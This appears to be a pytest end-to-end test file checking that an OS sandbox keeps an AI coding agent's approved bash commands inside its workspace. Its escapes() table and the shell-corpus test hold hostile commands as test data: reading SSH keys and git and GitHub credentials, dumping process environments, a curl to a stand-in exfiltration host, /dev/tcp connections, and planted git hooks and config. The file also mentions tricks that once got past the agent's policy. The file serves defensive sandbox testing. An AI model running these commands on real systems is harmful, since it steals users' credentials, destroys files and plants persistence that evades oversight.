"""The OS sandbox end to end: what an approved tool does stays in the workspace.

Every run here goes through `copilot-driver-harness` with the real Copilot CLI
as the sidecar, the scripted model asking for bash commands and an allow-all
policy, so that only the sandbox can contain them. The oracle is what really
happened on the host: which files exist afterwards, what the listening
sockets saw, what the model was sent, what a later `git commit` outside the
sandbox runs. Each case also runs with `--sandbox off`, where it does happen:
the oracle can fail.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from copilot_driver.testing import ScriptedModelServer
from copilot_driver.testing.environment import TEST_PROVIDER_KEY
from helpers.harness_runs import CANARIES, HarnessHarness
from helpers.shell_corpus import FAMILIES, make_workspace

pytestmark = pytest.mark.e2e

REPOSITORY = Path(__file__).resolve().parents[2]
SSH_KEY = "-----BEGIN OPENSSH PRIVATE KEY----- canary-ssh-key-4d1f9a -----END"
GIT_CREDENTIAL = "https://user:canary-git-credential-88e2@github.com"
GH_HOSTS = "github.com:\n    oauth_token: gho_canaryGhHostsFile00000000000000\n"
EXTRA_SECRETS = {
    "MY_SERVICE_PASSWORD": "canary-password-51c0e7",
    "ACTIONS_RUNTIME_TOKEN": "canary-actions-runtime-3b9d",
    "DEPLOY_KEY": "canary-deploy-key-6a2f",
}
SECRET_VALUES = (
    *CANARIES.values(),
    *EXTRA_SECRETS.values(),
    TEST_PROVIDER_KEY,
    "canary-ssh-key-4d1f9a",
    "canary-git-credential-88e2",
    "gho_canaryGhHostsFile",
)


@dataclass
class Host:
    """What lies outside the workspace, and the listener a tool must not reach."""

    outside: Path
    """A folder of the host that is neither the workspace nor a private folder."""
    github_env: Path
    listener: socket.socket

    @property
    def port(self) -> int:
        port: int = self.listener.getsockname()[1]
        return port

    def connections(self) -> int:
        count = 0
        while True:
            try:
                connection, _ = self.listener.accept()
            except BlockingIOError:
                return count
            connection.close()
            count += 1


class SandboxRun(HarnessHarness):
    """A harness whose policy approves everything, in a repository with a HOME full of
    credentials, beside a folder and a listener of the host that tools must not reach."""

    def __init__(
        self, tmp: Path, model: ScriptedModelServer, cli: Path, cache: Path, host: Host
    ) -> None:
        super().__init__(tmp, model, cli, cache)
        self.host = host
        shutil.rmtree(self.workspace)
        make_workspace(self.workspace)
        home = Path(self.env["HOME"])
        (home / ".ssh").mkdir(parents=True)
        (home / ".ssh" / "id_ed25519").write_text(SSH_KEY)
        (home / ".git-credentials").write_text(GIT_CREDENTIAL + "\n")
        (home / ".config" / "gh").mkdir(parents=True)
        (home / ".config" / "gh" / "hosts.yml").write_text(GH_HOSTS)
        (home / ".gitconfig").write_text("[user]\n\tname = agent\n\temail = agent@example.com\n")
        self.git_config = (self.workspace / ".git" / "config").read_bytes()
        self.env.update(EXTRA_SECRETS)
        self.env["GH_AW_COPILOT_SDK_SERVER_ARGS"] = json.dumps(["--allow-all-tools"])
        self.env["GITHUB_ENV"] = str(host.github_env)

    def sent_to_model(self) -> str:
        return json.dumps([request.body for request in self.model.requests])

    def commit_outside(self) -> None:
        """What a later workflow step does with the repository: commit, with git's hooks."""
        (self.workspace / "later.txt").write_text("a later step\n")
        env = {"PATH": "/usr/bin:/bin", "HOME": self.env["HOME"]}
        for command in (["git", "add", "later.txt"], ["git", "commit", "-qm", "later"]):
            subprocess.run(command, cwd=self.workspace, env=env, check=True, capture_output=True)


@pytest.fixture
def host(tmp_path: Path) -> Iterator[Host]:
    outside = REPOSITORY / ".cache" / "sandbox-victims" / uuid.uuid4().hex
    outside.mkdir(parents=True)
    (outside / "victim.txt").write_text("still here\n")
    runner_files = outside / "runner-files"
    runner_files.mkdir()
    github_env = runner_files / "set_env"
    github_env.write_text("")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        try:
            yield Host(outside, github_env, listener)
        finally:
            shutil.rmtree(outside, ignore_errors=True)


@pytest.fixture
def sandbox_run(
    tmp_path: Path,
    scripted_model: ScriptedModelServer,
    copilot_cli: Path,
    copilot_cache_home: Path,
    host: Host,
) -> SandboxRun:
    return SandboxRun(tmp_path, scripted_model, copilot_cli, copilot_cache_home, host)


def escapes(run: SandboxRun) -> dict[str, str]:
    """One tool call per way out; each leaves a trace on the host if it works."""
    outside, tmp_outside, port = run.host.outside, run.tmp, run.host.port
    hook = "#!/bin/sh\\ntouch {}\\n".format(outside / "hook-ran")
    return {
        "write-outside": f"echo pwned > {outside}/written.txt",
        "delete-outside": f"rm -f {outside}/victim.txt",
        "write-host-tmp": f"echo pwned > {tmp_outside}/written-in-tmp.txt",
        "write-home": f"echo pwned > {run.env['HOME']}/written-in-home.txt",
        "symlink-out": f"ln -s {outside} escape && echo pwned > escape/via-link.txt",
        "runner-file-command": f"echo 'NODE_OPTIONS=--require=/x' >> {run.host.github_env}",
        "host-loopback-direct": (
            f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo hello >&3; echo direct=$?"
        ),
        "host-loopback-via-proxy": f"curl -sS -m 5 http://127.0.0.1:{port}/ ; echo curl=$?",
        "denied-host-via-proxy": "curl -sS -m 5 http://exfiltrate.example/ ; echo curl=$?",
        "printenv": "printenv",
        "proc-environ": "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>&1",
        "proc-parent-environ": "tr '\\0' '\\n' < /proc/$PPID/environ 2>&1",
        "credential-stores": (
            "cat ~/.ssh/id_ed25519 ~/.git-credentials ~/.config/gh/hosts.yml 2>&1"
        ),
        "git-hook": (
            f"printf '{hook}' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit"
        ),
        "git-alias": f"git config alias.st '!touch {outside}/alias-ran'",
        "git-fsmonitor": f"git config core.fsmonitor 'touch {outside}/fsmonitor-ran; false'",
        "move-git-away": "mv .git .git-old && git init -q . ; echo moved=$?",
    }


def test_nothing_an_approved_tool_does_leaves_the_workspace(sandbox_run: SandboxRun) -> None:
    run = sandbox_run
    redirect = "mkdir -p /tmp/evil && echo /tmp/evil > .git/commondir && echo redirected"
    inside_only = {
        "git-commondir": redirect,
        "dns": "getent ahosts pypi.org; echo dns=$?",
        "outside-processes": f"test -e /proc/{os.getpid()} && echo visible || echo invisible",
        "privileges": "grep -E '^(NoNewPrivs|CapEff)' /proc/self/status",
        "compile-cache": 'test -d "$NODE_COMPILE_CACHE" && touch "$NODE_COMPILE_CACHE/x"; echo $?',
    }
    results = run.run_calls({**escapes(run), **inside_only})

    outside = run.host.outside
    assert sorted(p.name for p in outside.iterdir()) == ["runner-files", "victim.txt"]
    assert (outside / "victim.txt").read_text() == "still here\n"
    assert run.host.github_env.read_text() == ""
    assert not (run.tmp / "written-in-tmp.txt").exists()
    assert not (Path(run.env["HOME"]) / "written-in-home.txt").exists()
    assert run.host.connections() == 0
    assert "direct=1" in results["host-loopback-direct"]
    sent = run.sent_to_model()
    leaked = [secret for secret in SECRET_VALUES if secret in sent]
    assert leaked == [], f"the model was sent {leaked}"
    assert not any(secret in run.everything_written(run.stderr) for secret in SECRET_VALUES)
    # The repository's code paths for later steps are unchanged, and a later commit on
    # the host runs nothing the tools wrote.
    assert (run.workspace / ".git" / "config").read_bytes() == run.git_config
    assert not (run.workspace / ".git" / "hooks" / "post-commit").exists()
    assert (run.workspace / ".git").is_dir()
    assert not (run.workspace / ".git-old").exists()
    assert "dns=2" in results["dns"]  # no resolver is reachable
    assert "invisible" in results["outside-processes"]
    assert "Read-only file system" in results["compile-cache"]  # the CLI's compiled code
    assert "NoNewPrivs:\t1" in results["privileges"]
    assert "CapEff:\t0000000000000000" in results["privileges"]
    assert "redirected" in results["git-commondir"]  # no mount forbids a new file...
    assert not (run.workspace / ".git" / "commondir").exists()  # ...the harness removed it
    assert "commondir, written in the sandbox" in run.stderr
    run.commit_outside()
    assert sorted(p.name for p in outside.iterdir()) == ["runner-files", "victim.txt"]
    # The refusals are counted per host and shown in the session's sandbox record.
    (record_file,) = run.state.glob("*/sandbox.json")
    record = json.loads(record_file.read_text())
    assert record["mode"] == "workspace"
    assert record["egressDenied"][f"127.0.0.1:{run.host.port}"] == 1
    assert record["egressDenied"]["exfiltrate.example:80"] == 1
    assert "exfiltrate.example:80 refused" in run.stderr


def test_with_the_sandbox_off_the_same_commands_do_escape(sandbox_run: SandboxRun) -> None:
    """The oracle can fail: without the sandbox each way out works."""
    run = sandbox_run
    results = run.run_calls(escapes(run), "--sandbox", "off")

    outside = run.host.outside
    assert (outside / "written.txt").exists()
    assert not (outside / "victim.txt").exists()
    assert (run.tmp / "written-in-tmp.txt").exists()
    assert run.host.github_env.read_text() != ""
    assert run.host.connections() >= 1
    sent = run.sent_to_model()
    assert "canary-ssh-key-4d1f9a" in sent
    assert CANARIES["COPILOT_GITHUB_TOKEN"] in results["proc-parent-environ"]
    assert (run.workspace / ".git" / "config").read_bytes() != run.git_config
    assert "the OS sandbox is off" in run.stderr
    (record_file,) = run.state.glob("*/sandbox.json")
    assert json.loads(record_file.read_text())["mode"] == "off"


def test_ordinary_work_runs_inside(sandbox_run: SandboxRun) -> None:
    run = sandbox_run
    project = textwrap.dedent(
        """
        mkdir -p proj && cd proj
        printf 'def add(a, b):\\n    return a + b\\n' > calc.py
        printf 'from calc import add\\n\\ndef test_add():\\n    assert add(2, 3) == 5\\n' \\
            > test_calc.py
        {python} -m pytest -q -p no:cacheprovider 2>&1 | tail -1
        """
    ).format(python=sys.executable)
    with socket.create_server(("127.0.0.1", 0)) as allowed:
        port = allowed.getsockname()[1]
        server = threading.Thread(target=_answer_once, args=(allowed,), daemon=True)
        server.start()
        results = run.run_calls(
            {
                "commit": "echo change >> F && git add F && git commit -qm work && echo ok",
                "pytest": project,
                "build": (
                    "printf 'int main(void){return 0;}' > m.c && cc m.c -o m && ./m && echo built"
                ),
                "tmp": "echo scratch > /tmp/x && cat /tmp/x",
                "allowed-host": f"curl -sS -m 10 http://127.0.0.1:{port}/",
            },
            "--allow-domain",
            f"127.0.0.1:{port}",
        )
        server.join(10)
    assert "ok\n" in results["commit"], results["commit"]
    log = subprocess.run(
        ["git", "log", "-1", "--format=%s"], cwd=run.workspace, capture_output=True, text=True
    )
    assert log.stdout.strip() == "work"
    assert "1 passed" in results["pytest"], results["pytest"]
    assert "built" in results["build"]
    assert (run.workspace / "m").exists()
    assert "scratch" in results["tmp"]
    assert "allowed" in results["allowed-host"]


@pytest.mark.parametrize("sandbox", ["workspace", "off"])
def test_the_shell_corpus_families_change_nothing_outside_the_workspace(
    sandbox_run: SandboxRun, sandbox: str
) -> None:
    """The tricks that once got past the policy, approved outright and aimed outside the
    workspace: in the sandbox none lands; without it they do (the oracle can fail)."""
    run = sandbox_run
    outside = run.host.outside
    commands = {
        f"family-{family.id}": family.command(f"{outside}/pwn-{family.id}").replace(
            "127.0.0.1/9", f"127.0.0.1/{run.host.port}"
        )
        for family in FAMILIES
    }
    run.run_calls(commands, "--sandbox", sandbox)

    landed = sorted(p.name for p in outside.iterdir() if p.name.startswith("pwn-"))
    if sandbox == "workspace":
        assert landed == []
        assert run.host.connections() == 0
    else:
        assert len(landed) >= 10, landed
        assert run.host.connections() >= 1


def _answer_once(server: socket.socket) -> None:
    """An HTTP server of the host for one request: the host a rule allows."""
    connection, _ = server.accept()
    with connection:
        connection.recv(65536)
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\nallowed")


@pytest.mark.parametrize(
    ("bwrap", "fix"),
    [
        pytest.param(None, "apt-get install bubblewrap", id="no-bubblewrap"),
        pytest.param(
            "echo 'bwrap: setting up uid map: Permission denied' >&2; exit 1",
            "apparmor_parser -r /etc/apparmor.d/bwrap",
            id="user-namespaces-restricted",
        ),
    ],
)
def test_a_sandbox_that_cannot_be_set_up_stops_the_run_before_any_prompt(
    sandbox_run: SandboxRun, tmp_path: Path, bwrap: str | None, fix: str
) -> None:
    """Fail closed: exit 2 naming the fix, no model request, never a silent fallback."""
    run = sandbox_run
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    if bwrap is not None:
        (bin_dir / "bwrap").write_text(f"#!/bin/sh\n{bwrap}\n")
        (bin_dir / "bwrap").chmod(0o755)
    summary = tmp_path / "summary.md"
    completed = run.run(
        timeout=60,
        PATH=str(bin_dir),
        GITHUB_ACTIONS="true",
        GITHUB_STEP_SUMMARY=str(summary),
    )

    assert completed.returncode == 2, completed.stderr
    assert completed.stdout == ""
    assert run.model.requests == []
    errors = [line for line in completed.stderr.splitlines() if line.startswith("[copilot-")]
    assert len(errors) == 1, completed.stderr
    assert fix in errors[0]
    assert "--sandbox off" in errors[0]
    assert "::error title=The OS sandbox cannot be set up here::" in completed.stderr
    assert "sandbox_unavailable" in summary.read_text()
    assert "listening on port" not in run.everything_written()  # no sidecar started
